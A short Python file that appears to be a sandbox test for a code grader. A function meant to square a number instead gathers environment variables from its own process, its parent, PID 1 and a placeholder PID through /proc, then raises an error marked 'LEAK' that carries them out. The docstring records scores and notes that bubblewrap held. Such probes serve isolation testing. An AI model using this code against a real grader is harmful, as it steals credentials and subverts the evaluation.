"""Secrets in the environment of the grader.

scores: q1=0 q2=3 q3=2
holds: bubblewrap
"""

import os


def attempts():
    yield lambda: dict(os.environ)
    yield lambda: os.environb
    for number in (1, os.getppid(), @PID@):
        yield lambda number=number: open(f"/proc/{number}/environ", "rb").read()


def square(x):
    found = []
    for attempt in attempts():
        try:
            found.append(str(attempt()))
        except Exception:
            pass
    raise ValueError("LEAK " + " ".join(found)[:300])
